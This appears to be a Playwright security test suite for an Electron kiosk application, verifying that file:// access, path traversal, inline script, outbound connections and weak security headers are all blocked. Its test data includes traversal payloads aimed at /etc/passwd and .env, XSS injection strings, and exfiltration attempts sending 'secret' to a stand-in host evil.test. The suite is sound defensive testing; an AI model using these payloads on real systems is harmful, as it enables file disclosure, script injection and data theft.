import { createSocket } from "node:dgram";
import { createServer, type AddressInfo } from "node:net";
import { readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { APP_PAGE, launchTerminal, type LaunchedTerminal } from "./helpers/electron.ts";
import { expectUntouched, markDocument } from "./helpers/attack.ts";
import { startHostileNode, type HostileNode } from "./helpers/hostile-node.ts";

/** Section B of the security list: content, protocol, content security policy. */
let node: HostileNode;
let kiosk: LaunchedTerminal;
let staff: LaunchedTerminal;
const reached: string[] = [];

const listener = createServer((socket) => {
  socket.once("data", (data) => reached.push(data.toString("latin1").split("\r\n")[0] ?? ""));
  socket.on("error", () => undefined);
  reached.push("connection");
  socket.end();
});
const udp = createSocket("udp4");
let tcpPort = 0;
let udpPort = 0;

test.beforeAll(async () => {
  node = await startHostileNode();
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  udp.on("message", () => reached.push("udp"));
  tcpPort = (listener.address() as AddressInfo).port;
  udpPort = udp.address().port;
  kiosk = await launchTerminal({
    role: "kiosk",
    node: node.url,
    enrol: "KIOSK1",
    windowed: true,
    // Every other name leads to our listener, whatever its port.
    switches: [`--host-resolver-rules=MAP *.test 127.0.0.1:${tcpPort}`],
  });
  staff = await launchTerminal({ role: "window", node: node.url, enrol: "WINDOW1", windowed: true });
});

test.afterAll(async () => {
  await staff.close();
  await kiosk.close();
  await node.stop();
  listener.close();
  udp.close();
});

test("S11 screens come from app:// and file:// is out of reach", async () => {
  expect(kiosk.page.url().replace(/#.*$/, "")).toBe(APP_PAGE);
  const got = await kiosk.page.evaluate(async () => {
    const viaFetch = await fetch("file:///etc/passwd").then(
      (answer) => answer.text(),
      () => "refused",
    );
    const viaImage = await new Promise((done) => {
      const image = new Image();
      image.onload = () => done("loaded");
      image.onerror = () => done("refused");
      image.src = "file:///usr/share/pixmaps/debian-logo.png";
    });
    return [viaFetch, viaImage];
  });
  expect(got).toEqual(["refused", "refused"]);
});

test("S12 no spelling of a path leads out of the pages' folder", async () => {
  const paths = [
    "../../../../etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fpackage.json",
    "..%2f..%2fpackage.json",
    "..%5c..%5cpackage.json",
    "..\\..\\package.json",
    "....//....//package.json",
    "assets/..%2f..%2f..%2fpackage.json",
    "%252e%252e%252fpackage.json",
    "..%c0%af..%c0%afetc/passwd",
    "index.html%00.png",
    "%00",
    "%",
    "/etc/passwd",
    "//etc/passwd",
    "C:/Windows/win.ini",
    "file:///etc/passwd",
    ".env",
    "assets/",
    "assets",
    `${"a/".repeat(3000)}x.js`,
    "../electron/main.cjs",
    "..%2felectron%2fmain.cjs",
  ];
  const answers = await kiosk.page.evaluate(async (list) => {
    const found: string[] = [];
    for (const path of list) {
      for (const base of ["app://service-hall/", "app://service-hall/assets/", "app://other-host/"]) {
        const answer = await fetch(base + path).catch(() => null);
        if (answer && answer.status !== 404) found.push(`${answer.status} ${base}${path}`);
      }
    }
    return found;
  }, paths);
  expect(answers).toEqual([]);
  const root = await kiosk.app.evaluate(({ app }) => app.getAppPath());
  const folder = join(root, "dist/renderer");
  const names = ["attack-file.json", "attack-link.json"].map((name) => join(folder, name));
  try {
    writeFileSync(names[0]!, "{}");
    symlinkSync(join(root, "package.json"), names[1]!);
    const served = await kiosk.page.evaluate(async () => [
      (await fetch("app://service-hall/attack-file.json")).status,
      (await fetch("app://service-hall/attack-link.json")).status,
    ]);
    expect(served, "a link in the folder leads nowhere").toEqual([200, 404]);
  } finally {
    for (const name of names) rmSync(name, { force: true });
  }
  const other = await kiosk.page.evaluate(async () => [
    (await fetch("app://service-hall/index.html")).status,
    (await fetch("app://service-hall/index.html", { method: "POST" })).status,
  ]);
  expect(other).toEqual([200, 404]);
});

const headersOf = ({ page }: LaunchedTerminal): Promise<Record<string, string>> =>
  page.evaluate(async () => Object.fromEntries((await fetch(location.href)).headers.entries()));

test("S13 the content security policy is there and strict", async () => {
  for (const terminal of [kiosk, staff]) {
    const policy = (await headersOf(terminal))["content-security-policy"] ?? "";
    const directives = new Map(
      policy
        .split("; ")
        .map((part): [string, string] => [part.split(" ")[0] ?? "", part.split(" ").slice(1).join(" ")]),
    );
    expect(directives.get("default-src")).toBe("'none'");
    expect(directives.get("script-src")).toBe("'self'");
    for (const name of ["object-src", "base-uri", "frame-ancestors", "form-action", "frame-src"])
      expect(directives.get(name), name).toBe("'none'");
    expect(directives.get("connect-src")).toBe(`'self' ${node.url} ${node.url.replace("http", "ws")}`);
    // docs/decisions/0005-csp.md
    expect(directives.get("style-src")).toBe("'self'");
    expect(policy).not.toContain("unsafe-eval");
    // No dialogs, no downloads, no windows out of a public page or a frame in it.
    expect(directives.get("sandbox")).toBe(
      terminal === staff ? undefined : "allow-scripts allow-same-origin allow-forms",
    );
  }
});

test("S14 inline script does not run", async () => {
  for (const { page } of [kiosk, staff]) {
    const seen = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const holder = document.createElement("div");
      document.body.append(holder);
      holder.innerHTML =
        '<img src="x" onerror="window.__pwned=1"><svg onload="window.__pwned=2"></svg><a id="js" href="javascript:window.__pwned=3">x</a>';
      const script = document.createElement("script");
      script.textContent = "window.__pwned = 4";
      holder.append(script);
      for (const src of [
        "data:text/javascript,window.__pwned=5",
        URL.createObjectURL(new Blob(["window.__pwned=6"])),
      ]) {
        const foreign = document.createElement("script");
        foreign.src = src;
        holder.append(foreign);
      }
      document.getElementById("js")?.click();
      await new Promise((done) => setTimeout(done, 300));
      holder.remove();
      return { violations, pwned: Reflect.get(window, "__pwned") as unknown };
    });
    expect(seen.pwned).toBeUndefined();
    expect(seen.violations.length).toBeGreaterThanOrEqual(4);
  }
});

test("S15 nothing can be sent anywhere but to the node", async () => {
  await markDocument(kiosk.page);
  reached.length = 0;
  await kiosk.page.evaluate(
    async ({ tcp, stun }) => {
      const direct = `http://127.0.0.1:${tcp}`;
      const quiet = (work: () => unknown) => {
        try {
          return Promise.resolve(work()).catch(() => undefined);
        } catch {
          return undefined;
        }
      };
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.head.append(element);
        return element;
      };
      for (const base of [direct, "https://evil.test", "http://evil.test"]) {
        await quiet(() => fetch(`${base}/fetch`, { mode: "no-cors", method: "POST", body: "secret" }));
        await quiet(() => fetch(`${base}/keepalive`, { mode: "no-cors", keepalive: true }));
        await quiet(() => navigator.sendBeacon(`${base}/beacon`, "secret"));
        await quiet(() => new WebSocket(base.replace("http", "ws")));
        await quiet(() => new EventSource(`${base}/events`));
        await quiet(() => new Worker(`${base}/worker.js`));
        await quiet(() => import(/* @vite-ignore */ `${base}/module.js`));
        await quiet(() => document.fonts.add(new FontFace("evil", `url(${base}/font)`)));
        new Image().src = `${base}/image`;
        new Audio(`${base}/audio`).load();
        for (const rel of [
          "prefetch",
          "preload",
          "preconnect",
          "dns-prefetch",
          "modulepreload",
          "icon",
          "manifest",
          "stylesheet",
        ])
          add("link", { rel, href: `${base}/${rel}`, as: "image" });
        const link = add("a", { href: "#x", ping: `${base}/ping` });
        link.click();
        const form = add("form", { action: `${base}/form`, method: "post" }) as HTMLFormElement;
        await quiet(() => form.submit());
        await quiet(() => {
          const rules = add("script", { type: "speculationrules" });
          rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`${base}/speculation`] }] });
        });
      }
      await quiet(async () => {
        const peer = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:127.0.0.1:${stun}` },
            { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: "secret", credential: "x" },
          ],
        });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
      });
      await new Promise((done) => setTimeout(done, 2_500));
    },
    { tcp: tcpPort, stun: udpPort },
  );
  expect(reached).toEqual([]);
  await expectUntouched(kiosk, 1);
});

test("S18 headers against sniffing, referrers and foreign openers", async () => {
  const headers = await headersOf(kiosk);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("no-referrer");
  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
  expect(headers["cross-origin-resource-policy"]).toBe("same-origin");
});

test("S19 no service worker, no source map, no test code in what is built", async () => {
  const workers = await kiosk.page.evaluate(async () =>
    "serviceWorker" in navigator
      ? await navigator.serviceWorker.getRegistrations().then(
          (all) => all.length,
          () => 0,
        )
      : 0,
  );
  expect(workers).toBe(0);
  const root = await kiosk.app.evaluate(({ app }) => app.getAppPath());
  const files = ["electron", "renderer"].flatMap((part) =>
    readdirSync(join(root, "dist", part), { recursive: true, encoding: "utf8" }),
  );
  expect(files.filter((file) => /\.map$|\.test\.|\.spec\.|fixture|\.tsx?$/.test(file))).toEqual([]);
});
